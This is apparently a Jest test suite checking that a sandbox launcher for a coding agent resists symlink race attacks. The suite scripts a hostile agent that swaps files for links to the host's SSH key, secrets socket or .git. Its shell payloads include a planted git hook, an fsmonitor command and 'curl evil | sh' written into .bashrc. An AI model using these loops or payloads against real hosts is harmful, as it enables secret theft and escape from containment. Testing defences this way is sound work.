import { jest } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { chownSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Attacker, createHostSecrets, hashTree, makeWorkdir, REFUSED, type HostSecrets } from './helpers/hostile.js';
import { runLauncher, type LauncherResult } from './helpers/run-launcher.js';

/**
 * Hostile project trees, the attacks that need timing (REQUIREMENTS.md R101, R103, R105, R107): an agent
 * keeps running in a kept session on the same workdir and swaps what the launcher is about
 * to use for a symlink to the host's secrets, in a tight loop, while the launcher runs again
 * and again. Across every try nothing reaches the host: the secret never shows up, the
 * secret socket is never connected to, the host's .git and files are unchanged. Each test
 * also checks that the loop really hit the launcher (some runs were refused).
 */
jest.setTimeout(600000);

const TRIES = 10;
let scratch: string;
let home: string;
let secrets: HostSecrets;
const env = () => ({ HOME: home });
const attackers: Attacker[] = [];

beforeAll(async () => {
  scratch = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'cs-e2e-races-')));
  home = path.join(scratch, 'home');
  mkdirSync(home);
  secrets = await createHostSecrets(scratch);
});

afterAll(async () => {
  for (const attacker of attackers) attacker.remove();
  await secrets?.close();
  rmSync(scratch, { recursive: true, force: true });
});

function startAttacker(workdir: string, loop: string, extra: string[] = []): Attacker {
  const attacker = new Attacker(workdir, env(), undefined, extra);
  attackers.push(attacker);
  const started = attacker.start();
  expect({ status: started.status, stderr: started.stderr }).toEqual({ status: 0, stderr: expect.any(String) });
  attacker.run(loop);
  return attacker;
}

function tries(run: () => LauncherResult): { ok: number; refused: number; results: LauncherResult[] } {
  const results: LauncherResult[] = [];
  for (let attempt = 0; attempt < TRIES; attempt += 1) results.push(run());
  const refused = results.filter((result) => REFUSED.includes(result.status ?? -1)).length;
  const ok = results.filter((result) => result.status === 0).length;
  // Anything else (a crash, a hang) is shown with its output.
  expect(results.filter((result) => result.status !== 0 && !REFUSED.includes(result.status ?? -1))).toEqual([]);
  return { ok, refused, results };
}

function chownTree(dir: string): void {
  if (process.getuid?.() === 0) spawnSync('chown', ['-R', '1000:1000', dir]);
}

test('R103 auth.json in the workdir swapped for a link to a host key while runs start: the key is never mounted', () => {
  const workdir = makeWorkdir(scratch, 'auth-race', 'user');
  mkdirSync(path.join(workdir, 'codex'));
  writeFileSync(path.join(workdir, 'codex', 'auth.json'), '{"token":"REAL"}\n');
  chownTree(workdir);
  // auth.json is, half of the time each, the real file or a link to the key (atomic swaps).
  const attacker = startAttacker(
    workdir,
    `cd codex; cp auth.json auth.real; while :; do ln -sfn "${secrets.dir}/id_rsa" l.tmp; mv -T l.tmp auth.json; sleep 0.03;` +
      ' cp auth.real r.tmp; mv -T r.tmp auth.json; sleep 0.03; done',
  );
  const outcome = tries(() =>
    runLauncher(['shell', '--work_dir', workdir, '--', 'sh', '-c', 'cat /codex_home/auth.json 2>/dev/null; true'], {
      cwd: workdir,
      env: env(),
    }),
  );
  attacker.remove();
  for (const result of outcome.results) {
    expect(`${result.stdout}${result.stderr}`).not.toContain(secrets.secret);
    if (result.status === 0) expect(['', '{"token":"REAL"}\n']).toContain(result.stdout);
  }
  expect(outcome.ok + outcome.refused).toBe(TRIES);
  // The loop met the launcher: a run was refused, or the planted link was seen and ignored.
  const seen = outcome.results.filter((result) => result.status !== 0 || result.stderr.includes('link leading out')).length;
  expect(seen).toBeGreaterThan(0);
});

test("R103 R104 a --read-only directory in the workdir swapped for a link to the host's secrets: never mounted, no socket reached", () => {
  const workdir = makeWorkdir(scratch, 'ro-race', 'user');
  mkdirSync(path.join(workdir, 'data'));
  writeFileSync(path.join(workdir, 'data', 'real.txt'), 'real data\n');
  chownTree(workdir);
  const attacker = startAttacker(
    workdir,
    `while :; do mv data data.real; ln -s "${secrets.dir}" data; rm -f data; mv data.real data; done`,
  );
  // Wherever it might have been mounted: in place of data, or at /app<its real path>.
  const places = [`/app${workdir}/data`, `/app${secrets.dir}`];
  const probe = [
    ...places.map((place) => `cat ${place}/id_rsa 2>/dev/null; curl -s -m 2 --unix-socket ${place}/agent.sock http://x/ 2>/dev/null`),
    `grep -q host-secrets /proc/self/mountinfo && echo MOUNTED-host-secrets`,
    `ls /app${workdir}/data; true`,
  ].join('; ');
  const outcome = tries(() =>
    runLauncher(['shell', '--work_dir', workdir, '--read-only', path.join(workdir, 'data'), '--', 'sh', '-c', probe], {
      cwd: workdir,
      env: env(),
    }),
  );
  attacker.remove();
  for (const result of outcome.results) {
    expect(`${result.stdout}${result.stderr}`).not.toContain(secrets.secret);
    if (result.status === 0) expect(result.stdout).toBe('real.txt\n');
  }
  expect(secrets.connections()).toBe(0);
  expect(outcome.results.map((result) => result.stdout).join('')).not.toContain('MOUNTED-host-secrets');
  expect(outcome.ok + outcome.refused).toBe(TRIES);
  expect(outcome.refused).toBeGreaterThan(0);
});

test('R105 R103 the Codex home swapped for a link to ../.git while --protect-git runs start: the host .git never changes', () => {
  const workdir = makeWorkdir(scratch, 'git-race', 'user');
  const git = (args: string[]) =>
    spawnSync('git', ['-C', workdir, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { encoding: 'utf8' });
  git(['init', '-q', '-b', 'main']);
  writeFileSync(path.join(workdir, 'f.txt'), 'one\n');
  git(['add', 'f.txt']);
  git(['commit', '-q', '-m', 'one']);
  mkdirSync(path.join(workdir, '.codex', '.environment'), { recursive: true });
  chownTree(workdir);
  const before = hashTree(path.join(workdir, '.git'));
  const attacker = startAttacker(
    workdir,
    'cd .codex; while :; do mv .environment env.real; ln -s ../.git .environment; rm -f .environment; mv env.real .environment; done',
    ['--protect-git'],
  );
  const write =
    'mkdir -p /codex_home/hooks 2>/dev/null; echo "touch /tmp/pwned" > /codex_home/hooks/pre-commit 2>/dev/null;' +
    ' printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> /codex_home/config 2>/dev/null; true';
  const outcome = tries(() =>
    runLauncher(['shell', '--protect-git', '--work_dir', workdir, '--', 'sh', '-c', write], { cwd: workdir, env: env() }),
  );
  attacker.remove();
  expect(hashTree(path.join(workdir, '.git'))).toEqual(before);
  expect(outcome.ok + outcome.refused).toBe(TRIES);
  expect(outcome.refused).toBeGreaterThan(0);
});

test('R107 pull into a directory the agent swaps for a link to a host directory: nothing is written there', () => {
  const workdir = makeWorkdir(scratch, 'pull-race', 'user');
  const inbox = path.join(workdir, 'inbox');
  mkdirSync(inbox);
  chownTree(workdir);
  const victim = path.join(scratch, 'victim-home');
  mkdirSync(victim, { recursive: true });
  writeFileSync(path.join(victim, '.bashrc'), 'ORIGINAL\n');
  if (process.getuid?.() === 0) chownSync(victim, 1000, 1000);
  const before = hashTree(victim);
  // Any extraction directory appearing in DEST_DIR is swapped for a link to the victim at
  // once, and the pulled directory's place flips between missing and such a link.
  const attacker = startAttacker(
    workdir,
    [
      'while :; do',
      `  for d in inbox/.codex-pull-*; do [ -d "$d" ] && [ ! -L "$d" ] && mv "$d" "$d.moved" 2>/dev/null && ln -s "${victim}" "$d"; done`,
      `  rm -rf inbox/out; ln -s "${victim}" inbox/out; rm -f inbox/out`,
      'done',
    ].join('\n'),
  );
  expect(attacker.exec('mkdir -p /tmp/out && echo "curl evil | sh" > /tmp/out/.bashrc').status).toBe(0);
  const outcome = tries(() => runLauncher(['pull', '--name', attacker.name, '--force', '/tmp/out', inbox], { cwd: workdir, env: env() }));
  attacker.remove();
  expect(hashTree(victim)).toEqual(before);
  expect(readFileSync(path.join(victim, '.bashrc'), 'utf8')).toBe('ORIGINAL\n');
  expect(outcome.ok + outcome.refused).toBe(TRIES);
  // Extraction happens outside every agent tree: no scratch directory ever appears in DEST_DIR.
  expect(readdirSync(inbox).filter((name) => name.startsWith('.codex-pull'))).toEqual([]);
});
